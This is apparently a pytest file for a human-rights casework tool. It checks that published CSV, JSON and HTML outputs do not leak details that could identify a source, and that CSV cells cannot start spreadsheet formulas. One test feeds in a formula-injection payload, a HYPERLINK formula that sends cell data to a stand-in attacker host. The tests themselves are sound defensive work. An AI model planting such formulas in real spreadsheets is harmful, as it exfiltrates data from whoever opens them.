"""Attacker: an analyst's free text carries a source's route out of the desk (issue 12, High 1).

The perpetrator field is free text an analyst typed. Before the gate, only the victims'
description was checked, so "the mine's security chief, whose nephew phoned us from Musan
on 12 September" reached incidents.csv, incidents.json and the public HTML report with
exit 0 — a relative of the source, a county and a day, even with ``--place province
--precision month``. Each test here publishes such a text through the real CLI on a real
store and looks at every byte written.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from click.testing import CliRunner

from casework.cli import main
from casework.model import Incident, Mention, Place, SourceIdentity, Victims
from casework.store import FAST_TEST_KDF, init_store, open_store

PASSPHRASE = "correct horse battery staple"
ROUTE = "the mine's security chief, whose nephew phoned us from Musan on 12 September"
# What the route gives away, in every spelling a writer might use.
LEAKS = ("Musan", "12 September", "September 12", "nephew", "2019-09-12")


def desk_with_incident(tmp_path: Path, *, perpetrator: str | None = None, description: str = "three miners") -> str:
    """A store with one incident whose free texts an analyst wrote; returns its URL."""
    url = str(tmp_path / "desk.db")
    init_store(url, "admin", PASSPHRASE, kdf=FAST_TEST_KDF)
    store = open_store(url, "admin", PASSPHRASE)
    try:
        store.add_user("ana", PASSPHRASE, "analyst")
        store.add_source("HERON-4", SourceIdentity("HERON-4", name="Zqx Nephewson"))
        text = "received: 2019-09-14\nchannel: phone\nsource: HERON-4\n\nGuards beat three miners."
        added = store.add_testimony(text.encode(), source="HERON-4", filename="t.txt")
        mention = Mention(
            type="torture_or_ill_treatment", date="2019-09-12", date_text="on 12 September", date_precision="day",
            place=Place("North Hamgyong", "Musan"), perpetrator=perpetrator,
            victims=Victims(3, "three miners", description), relation="first-hand",
        )
        ids = store.save_mentions(added.testimony_id, [mention])
        store.save_incidents([Incident("I-0001", tuple(ids), "single-source", ("HERON-4",), 1, 1)])
    finally:
        store.close()
    return url


def run(url: str, *args: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, ["--store", url, "--user", "ana", *args],
                                env={"CASEWORK_PASSPHRASE": PASSPHRASE})
    return result.exit_code, result.output


def written(folder: Path) -> str:
    return "\n".join(p.read_text("utf-8") for p in sorted(folder.rglob("*")) if p.is_file()) if folder.exists() else ""


def test_perpetrator_route_is_refused_by_publish_and_report(tmp_path: Path) -> None:
    url = desk_with_incident(tmp_path, perpetrator=ROUTE)
    code, output = run(url, "publish", "--out", str(tmp_path / "data"))
    assert code == 3, output
    assert "perpetrator" in output and "Musan" not in output  # names the field, never the text
    assert written(tmp_path / "data") == ""
    code, output = run(url, "report", "--public", "--out", str(tmp_path / "html"))
    assert code == 3, output
    assert not (tmp_path / "html" / "index.html").exists()


@pytest.mark.parametrize("command", [["publish"], ["report", "--public"]])
def test_accepted_risk_still_publishes_no_county_day_or_relative(tmp_path: Path, command: list[str]) -> None:
    url = desk_with_incident(tmp_path, perpetrator=ROUTE)
    out = tmp_path / "out"
    code, output = run(url, *command, "--out", str(out), "--precision", "month", "--accept-risk", "editor: ok")
    assert code == 0, output
    public = written(out)
    assert "security chief" in public  # the field is published, coarsened
    for leak in LEAKS:
        assert leak.lower() not in public.lower(), leak


@pytest.mark.parametrize("command", [["publish"], ["report", "--public"]])
def test_medium_risk_needs_the_same_reason_as_high(tmp_path: Path, command: list[str]) -> None:
    url = desk_with_incident(tmp_path, description="three miners; our source is in his forties")
    code, output = run(url, *command, "--out", str(tmp_path / "a"))
    assert code == 3, output
    assert "medium" in output
    code, output = run(url, *command, "--out", str(tmp_path / "b"), "--accept-risk", "editor: the age is public")
    assert code == 0, output


@pytest.mark.parametrize("field", ["perpetrator", "description"])
def test_no_csv_cell_starts_a_spreadsheet_formula(tmp_path: Path, field: str) -> None:
    payload = '=HYPERLINK("http://attacker.example/?"&A1,"details")'
    url = desk_with_incident(tmp_path, **{field: payload})  # type: ignore[arg-type]
    code, output = run(url, "publish", "--out", str(tmp_path / "data"))
    assert code == 0, output
    with (tmp_path / "data" / "incidents.csv").open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(c.startswith("'=HYPERLINK") for c in cells)


@pytest.mark.parametrize("command", [["publish"], ["report", "--public"]])
def test_analyst_publication_is_tested_against_identities_it_cannot_read(tmp_path: Path, command: list[str]) -> None:
    url = desk_with_incident(tmp_path, description="three miners, among them the cousin of Zqx Nephewson")
    code, output = run(url, *command, "--out", str(tmp_path / "refused"))
    assert code == 3, output
    assert "Nephewson" not in output
    code, output = run(url, *command, "--out", str(tmp_path / "out"), "--accept-risk", "editor: approved")
    assert code == 0, output
    public = written(tmp_path / "out")
    assert public and "nephewson" not in public.lower()
